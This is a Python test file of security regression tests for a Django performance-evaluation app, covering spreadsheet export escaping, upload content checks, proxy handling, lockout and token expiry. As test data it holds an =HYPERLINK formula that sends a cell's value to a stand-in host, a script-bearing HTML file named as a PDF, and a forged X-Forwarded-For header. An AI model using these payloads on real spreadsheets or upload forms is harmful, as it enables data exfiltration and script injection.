"""Defects a security review found: formula cells in exports, lengths PostgreSQL
refuses, HTTPS behind a proxy, upload limits, out-of-range figures, evidence
content, existence oracles, and the trail of approved targets."""

from __future__ import annotations

import io
import json
import re

import pytest
from django.test import Client
from openpyxl import load_workbook

from jixiao.web.evaluations import actions
from jixiao.web.evaluations.models import Project

from . import evidence_samples
from .conftest import edited

NASTY = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'


def signed_in(tree, name: str) -> Client:
    client = Client()
    client.force_login(tree.users[name])
    return client


def _texts(content: bytes, min_row: int) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows(min_row=min_row) for c in row if isinstance(c.value, str)]


def test_the_forms_list_export_writes_names_as_text_not_formulas(tree, forms):
    project = Project.objects.create(code="=1+1", name=NASTY, unit=tree.unit_a1)
    actions.forms.create(user=tree.users["filler_a1"], project=project, form=forms[0])
    cells = _texts(signed_in(tree, "admin").get("/forms/export/").content, min_row=2)
    values = {c.value for c in cells}
    assert {"=1+1", NASTY} <= values
    assert all(c.data_type == "s" for c in cells)


def test_the_rollup_export_writes_names_as_text_without_a_quote(tree, forms):
    project = Project.objects.create(code="-P1", name=NASTY, unit=tree.unit_a1)
    actions.forms.create(
        user=tree.users["filler_a1"], project=project, form=edited(forms[0], year=2023)
    )
    cells = _texts(
        signed_in(tree, "admin").get("/rollup/export/xlsx/", {"year": 2023}).content, min_row=3
    )
    values = {c.value for c in cells}
    assert {"-P1", NASTY} <= values
    assert all(c.data_type == "s" for c in cells)


# 3. Lengths PostgreSQL refuses (SQLite keeps any length): a printed grade is
# kept; an over-long code, name or indicator is a 422 naming the field.


def test_a_printed_grade_with_a_note_is_kept(tree, project_a1, forms):
    grade = "良（主管部门核定）"
    ev = actions.forms.create(
        user=tree.users["filler_a1"], project=project_a1, form=edited(forms[0], grade=grade)
    )
    ev.refresh_from_db()
    assert ev.grade == grade


def test_a_grade_longer_than_its_column_is_refused_naming_it(tree, project_a1, forms):
    with pytest.raises(actions.errors.Invalid) as caught:
        actions.forms.create(
            user=tree.users["filler_a1"], project=project_a1, form=edited(forms[0], grade="优" * 65)
        )
    assert caught.value.status == 422 and "等级" in caught.value.message


@pytest.mark.parametrize(
    ("code", "name", "field"), [("C" * 65, "项目", "项目编码"), ("C-1", "名" * 301, "项目名称")]
)
def test_an_over_long_project_code_or_name_is_a_422_naming_the_field(tree, code, name, field):
    client = Client()
    token = client.post(
        "/api/auth/token",
        json.dumps({"username": "admin", "password": "admin-口令-2026"}),
        content_type="application/json",
    ).json()["token"]
    answer = client.post(
        "/api/projects",
        json.dumps({"code": code, "name": name, "unit": tree.unit_a1.pk}),
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 422 and field in answer.json()["detail"]
    assert not Project.objects.filter(code=code).exists()


def test_evidence_for_an_over_long_indicator_name_is_refused_naming_it(tree, project_a1, forms):
    from dataclasses import replace

    from django.core.files.uploadedfile import SimpleUploadedFile

    form = forms[0]
    long_name = "指" * 201
    form = replace(
        form, indicators=(replace(form.indicators[0], name=long_name), *form.indicators[1:])
    )
    ev = actions.forms.create(user=tree.users["filler_a1"], project=project_a1, form=form)
    upload = SimpleUploadedFile("a.pdf", b"%PDF-1.4\n%%EOF\n", content_type="application/pdf")
    with pytest.raises(actions.errors.Invalid) as caught:
        actions.evidence.add(
            user=tree.users["filler_a1"], pk=ev.pk, indicator=long_name, upload=upload
        )
    assert "三级指标" in caught.value.message


# 4. Behind an HTTPS reverse proxy: logins pass the CSRF origin check, cookies
# are Secure, and the lockout counts each client, not the proxy.


def _settings_from(env: dict) -> dict:
    """The settings module as a server started with ``env`` reads it."""
    import os
    import subprocess
    import sys

    names = [
        "SECURE_PROXY_SSL_HEADER",
        "SESSION_COOKIE_SECURE",
        "CSRF_COOKIE_SECURE",
        "SECURE_HSTS_SECONDS",
        "CSRF_TRUSTED_ORIGINS",
        "JIXIAO_PROXY_COUNT",
        "JIXIAO_TRUSTED_PROXIES",
    ]
    code = (
        "import json, jixiao.web.settings as s; "
        f"print(json.dumps({{n: getattr(s, n, None) for n in {names!r}}}))"
    )
    clean = {k: v for k, v in os.environ.items() if not k.startswith("JIXIAO_")}
    run = subprocess.run(
        [sys.executable, "-c", code],
        env={**clean, **env},
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(run.stdout)


def test_https_settings_come_from_the_environment():
    plain = _settings_from({})
    assert not plain["SESSION_COOKIE_SECURE"] and not plain["CSRF_COOKIE_SECURE"]
    assert plain["SECURE_PROXY_SSL_HEADER"] is None and plain["CSRF_TRUSTED_ORIGINS"] == []
    assert plain["JIXIAO_TRUSTED_PROXIES"] == []  # no proxy: every X-Forwarded-* is dropped
    https = _settings_from(
        {
            "JIXIAO_HTTPS": "1",
            "JIXIAO_CSRF_TRUSTED_ORIGINS": "https://jx.example.cn, https://b.example",
            "JIXIAO_PROXY_COUNT": "1",
        }
    )
    assert https["SECURE_PROXY_SSL_HEADER"] == ["HTTP_X_FORWARDED_PROTO", "https"]
    assert (
        https["SESSION_COOKIE_SECURE"]
        and https["CSRF_COOKIE_SECURE"]
        and https["SECURE_HSTS_SECONDS"] > 0
    )
    assert https["CSRF_TRUSTED_ORIGINS"] == ["https://jx.example.cn", "https://b.example"]
    assert https["JIXIAO_PROXY_COUNT"] == 1
    assert https["JIXIAO_TRUSTED_PROXIES"] == ["127.0.0.1", "::1"]  # nginx on this machine
    listed = _settings_from(
        {"JIXIAO_PROXY_COUNT": "2", "JIXIAO_TRUSTED_PROXIES": "10.0.0.0/8, ::1"}
    )
    assert listed["JIXIAO_TRUSTED_PROXIES"] == ["10.0.0.0/8", "::1"]


def test_a_trusted_proxy_that_is_no_address_stops_the_server_saying_so():
    from jixiao.web.server import StartError, proxy_networks

    assert [str(n) for n in proxy_networks(["127.0.0.1", "10.0.0.0/8", "[::1]"])] == [
        "127.0.0.1/32",
        "10.0.0.0/8",
        "::1/128",
    ]
    with pytest.raises(StartError) as caught:
        proxy_networks(["nginx.local"])
    assert "JIXIAO_TRUSTED_PROXIES" in str(caught.value) and "nginx.local" in str(caught.value)


@pytest.fixture
def behind_https_proxy(settings):
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.SESSION_COOKIE_SECURE = settings.CSRF_COOKIE_SECURE = True
    settings.SECURE_HSTS_SECONDS = 3600
    settings.JIXIAO_PROXY_COUNT = 1
    settings.ALLOWED_HOSTS = ["jx.example.cn"]
    return settings


def test_a_login_through_an_https_proxy_succeeds_with_secure_cookies(tree, behind_https_proxy):
    browser = Client(enforce_csrf_checks=True)
    proxied = {"Host": "jx.example.cn", "X-Forwarded-Proto": "https", "X-Forwarded-For": "10.1.2.3"}
    page = browser.get("/login/", headers=proxied)
    assert page.status_code == 200 and "max-age=3600" in page["Strict-Transport-Security"]
    token = browser.cookies["csrftoken"]
    assert token["secure"]
    answer = browser.post(
        "/login/",
        {
            "username": "filler_a1",
            "password": "filler_a1-口令-2026",
            "csrfmiddlewaretoken": token.value,
        },
        headers={**proxied, "Origin": "https://jx.example.cn"},
    )
    assert answer.status_code == 302, answer.content[:300]
    assert answer.cookies["sessionid"]["secure"]


def test_behind_a_proxy_one_client_cannot_lock_an_account_for_the_others(tree, behind_https_proxy):
    def token(client_address: str, password: str) -> int:
        return (
            Client()
            .post(
                "/api/auth/token",
                json.dumps({"username": "filler_a1", "password": password}),
                content_type="application/json",
                headers={"Host": "jx.example.cn", "X-Forwarded-For": f"6.6.6.6, {client_address}"},
            )
            .status_code
        )

    for _ in range(5):
        token("203.0.113.9", "wrong")
    assert token("203.0.113.9", "filler_a1-口令-2026") == 429
    assert token("198.51.100.7", "filler_a1-口令-2026") == 200


# 5. The API's import has the page's limits: size and type.


def _token(client: Client, name: str) -> dict:
    answer = client.post(
        "/api/auth/token",
        json.dumps({"username": name, "password": f"{name}-口令-2026"}),
        content_type="application/json",
    )
    return {"Authorization": f"Bearer {answer.json()['token']}"}


def test_the_api_import_refuses_an_unknown_type_and_an_oversized_file(tree, project_a1):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from jixiao.web.evaluations import uploads

    client = Client()
    headers = _token(client, "filler_a1")
    path = f"/api/projects/{project_a1.code}/evaluations"
    exe = client.post(
        path, {"file": SimpleUploadedFile("tool.exe", b"MZ\x90\x00 not a form")}, headers=headers
    )
    assert exe.status_code == 400 and ".xlsx" in exe.json()["detail"]
    big = SimpleUploadedFile("big.txt", b"x" * (uploads.MAX_UPLOAD + 1))
    answer = client.post(path, {"file": big}, headers=headers)
    assert (
        answer.status_code == 400
        and f"{uploads.MAX_UPLOAD // 1024 // 1024} MB" in answer.json()["detail"]
    )
    assert not project_a1.evaluations.exists()


# 6. Figures out of any computable range: the pages answer 422 as the API does,
# the message shown and the typed text kept.

OUT_OF_RANGE = {"funding.annual_budget": "1E-999999", "funding.executed": "1E+999999"}


def test_saving_out_of_range_figures_is_a_422_with_the_text_kept(tree, draft):
    answer = signed_in(tree, "filler_a1").post(
        f"/forms/{draft.pk}/edit/", {"version": draft.version, **OUT_OF_RANGE}
    )
    page = answer.content.decode()
    assert answer.status_code == 422
    # refused at their fields as typed figures no form holds (#19), the text kept
    assert "1E+999999" in page and "1E-999999" in page
    assert page.count('class="field-error"') == 2 and "不是数字" in page


def test_recomputing_out_of_range_figures_is_a_422_with_the_message(tree, draft):
    answer = signed_in(tree, "filler_a1").post(f"/forms/{draft.pk}/recompute/", OUT_OF_RANGE)
    assert answer.status_code == 422 and "有 2 处填写有误" in answer.content.decode()


def test_the_pages_have_htmx_show_a_422_answer(tree, draft):
    """htmx swaps no 4xx answer by default: the pages ask it to swap a 422 (a
    refused figure's message) in place."""
    page = signed_in(tree, "filler_a1").get(f"/forms/{draft.pk}/edit/").content.decode()
    config = re.search(r'<meta name="htmx-config" content=\'([^\']*)\'', page)
    assert (
        config and {"code": "422", "swap": True} in json.loads(config.group(1))["responseHandling"]
    )


# 8. Roll-up subtotals keep the form lines' six places (SQLite sums DECIMAL as floats).


def test_subtotals_and_the_total_have_the_form_lines_places(tree, forms):
    from jixiao.web.evaluations.selectors import rollup

    places = [tree.unit_a1, tree.unit_a1, tree.unit_a2, tree.unit_b1, tree.unit_a2]
    fillers = {tree.unit_a1: "filler_a1", tree.unit_a2: "filler_a2", tree.unit_b1: "filler_b1"}
    for n, (form, unit) in enumerate(zip(forms, places)):
        project = Project.objects.create(code=f"S-{n}", name=f"项目{n}", unit=unit)
        actions.forms.create(
            user=tree.users[fillers[unit]], project=project, form=edited(form, year=2023)
        )
    chosen = rollup.rows(actions.access.visible(tree.users["admin"]), 2023)
    lines = {ev.budget_wan.as_tuple().exponent for ev in chosen} | {
        ev.executed_wan.as_tuple().exponent for ev in chosen
    }
    assert lines == {-6}
    groups = [
        *rollup.subtotals(chosen, "unit").values(),
        *rollup.subtotals(chosen, "department").values(),
        rollup.totals(chosen),
    ]
    assert {g.budget_wan.as_tuple().exponent for g in groups} | {
        g.executed_wan.as_tuple().exponent for g in groups
    } == {-6}
    assert rollup.totals(chosen).budget_wan == sum(ev.budget_wan for ev in chosen)


# 9. Evidence files are what their names say: checked by content, not extension.


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("x.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("photo.jpg", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20),
        ("scan.png", b"GIF89a" + b"\x00" * 20),
        ("report.docx", b"%PDF-1.4 not a Word file"),
    ],
)
def test_evidence_whose_content_is_not_its_type_is_refused(tree, draft, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    indicator = draft.data["indicators"][0]["name"]
    with pytest.raises(actions.errors.ServiceError) as caught:
        actions.evidence.add(
            user=tree.users["filler_a1"],
            pk=draft.pk,
            indicator=indicator,
            upload=SimpleUploadedFile(name, content),
        )
    assert name.rpartition(".")[2] in caught.value.message and "内容" in caught.value.message
    assert not draft.evidence.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", evidence_samples.PDF),
        ("a.jpeg", evidence_samples.image_bytes("JPEG")),
        ("a.png", evidence_samples.image_bytes("PNG")),
        ("a.xlsx", evidence_samples.xlsx_bytes()),
        ("a.docx", evidence_samples.docx_bytes()),
    ],
)
def test_evidence_of_its_type_is_kept(tree, draft, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    indicator = draft.data["indicators"][0]["name"]
    item = actions.evidence.add(
        user=tree.users["filler_a1"],
        pk=draft.pk,
        indicator=indicator,
        upload=SimpleUploadedFile(name, content),
    )
    assert bytes(item.content) == content


# 10. Small ones: a year outside 2000–2100, a server on every address, and a
# project code already used.


def test_a_form_of_a_year_outside_2000_to_2100_is_refused_naming_the_year(tree, project_a1, forms):
    with pytest.raises(actions.errors.Invalid) as caught:
        actions.forms.create(
            user=tree.users["filler_a1"], project=project_a1, form=edited(forms[0], year=3023)
        )
    assert "3023" in caught.value.message and "2000" in caught.value.message
    assert not project_a1.evaluations.exists()


def test_serving_on_every_address_does_not_allow_every_host_name():
    import socket

    from jixiao.web.server import allowed_hosts

    everywhere = allowed_hosts("0.0.0.0").split(",")
    assert "*" not in everywhere and {"localhost", "127.0.0.1", socket.gethostname()} <= set(
        everywhere
    )
    assert allowed_hosts("10.0.0.5").split(",") == ["10.0.0.5", "localhost", "127.0.0.1", "[::1]"]


def test_a_used_project_code_is_refused_alike_whether_or_not_one_may_see_its_project(
    tree, project_a1
):
    """Project codes are unique in the whole region (the finance bureau's 项目库 gives
    them): the refusal says the code is taken, never whose it is, and reads the same
    for a project of another unit as for one's own."""
    own = actions.projects.create
    Project.objects.create(code="B1-900", name="乙一的项目", unit=tree.unit_b1)
    answers = []
    for code in ("A1-001", "B1-900"):
        with pytest.raises(actions.errors.Conflict) as caught:
            own(user=tree.users["filler_a1"], code=code, name="新项目", unit_id=tree.unit_a1.pk)
        answers.append((caught.value.status, caught.value.message.replace(code, "<code>")))
    assert answers[0] == answers[1]
    assert "乙一" not in answers[1][1] and tree.unit_b1.name not in answers[1][1]


# 11. Approved targets changed after a form took them: an event on that form's
# hash chain, shown in its history.


def test_setting_targets_again_is_on_the_trail_of_the_form_of_that_year(tree, forms):
    from dataclasses import replace

    from jixiao.domain.approved_targets import ApprovedTarget
    from jixiao.web.evaluations.models import Event

    form = forms[1]
    project = Project.objects.create(code="A1-002", name="项目", unit=tree.unit_a1)
    rows = [
        ApprovedTarget(
            name=r.name, target=r.target, points=r.points, level1=r.level1, level2=r.level2
        )
        for r in form.indicators[:2]
    ]
    actions.targets.approve(user=tree.users["reviewer_a"], code="A1-002", year=form.year, rows=rows)
    ev = actions.forms.create(user=tree.users["filler_a1"], project=project, form=form)
    assert [e.action for e in ev.events.all()] == ["create"]

    changed = [replace(rows[0], target="≥999"), rows[1]]
    actions.targets.approve(
        user=tree.users["reviewer_a"], code="A1-002", year=form.year, rows=changed
    )
    event = Event.objects.filter(evaluation=ev).order_by("-id").first()
    assert event.action == "targets_set" and event.actor_name == "reviewer_a"
    assert event.diff == [
        {"path": f"approved_targets.{rows[0].name}.target", "old": rows[0].target, "new": "≥999"}
    ]
    _count, breaks, _head = actions.trail.verify()
    assert (actions.trail.check().form_events, breaks) == (2, [])
    history = signed_in(tree, "filler_a1").get(f"/forms/{ev.pk}/history/").content.decode()
    assert "批复绩效目标" in history and "≥999" in history and rows[0].name in history


# 8. API tokens expire (JIXIAO_API_TOKEN_DAYS, 30 by default); the answer says when.


def test_an_api_token_says_when_it_expires_and_then_stops_working(tree, settings):
    from datetime import datetime, timedelta

    from django.utils import timezone

    from jixiao.web.orgs.models import ApiToken

    settings.JIXIAO_API_TOKEN_DAYS = 7
    client = Client()
    before = timezone.now()
    answer = client.post(
        "/api/auth/token",
        json.dumps({"username": "filler_a1", "password": "filler_a1-口令-2026"}),
        content_type="application/json",
    ).json()
    expires = datetime.fromisoformat(answer["expires_at"])
    assert before + timedelta(days=7) <= expires <= timezone.now() + timedelta(days=7)
    headers = {"Authorization": f"Bearer {answer['token']}"}
    assert client.get("/api/evaluations", headers=headers).status_code == 200

    stored = ApiToken.objects.get(digest=ApiToken.digest_of(answer["token"]))
    stored.expires_at = timezone.now() - timedelta(seconds=1)
    stored.save()
    assert client.get("/api/evaluations", headers=headers).status_code == 401
    stored.expires_at = None  # made before tokens expired, and not migrated: refused too
    stored.save()
    assert client.get("/api/evaluations", headers=headers).status_code == 401


def test_tokens_made_before_expiry_existed_work_for_30_days_from_when_they_were_made(
    transactional_db,
):
    from datetime import timedelta

    from django.contrib.auth import get_user_model
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor
    from django.utils import timezone

    executor = MigrationExecutor(connection)
    executor.migrate([("orgs", "0001_initial")])
    old = executor.loader.project_state([("orgs", "0001_initial")]).apps
    user = old.get_model(*get_user_model()._meta.label.split(".")).objects.create(
        username="old-token-user"
    )
    token_model = old.get_model("orgs", "ApiToken")
    recent = token_model.objects.create(user_id=user.pk, digest="a" * 64)
    stale = token_model.objects.create(user_id=user.pk, digest="b" * 64)
    token_model.objects.filter(pk=stale.pk).update(created_at=timezone.now() - timedelta(days=40))

    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    executor.migrate(executor.loader.graph.leaf_nodes())
    from jixiao.web.orgs.models import ApiToken

    now = timezone.now()
    assert ApiToken.objects.get(pk=recent.pk).expires_at > now + timedelta(days=29)
    assert ApiToken.objects.get(pk=stale.pk).expires_at < now
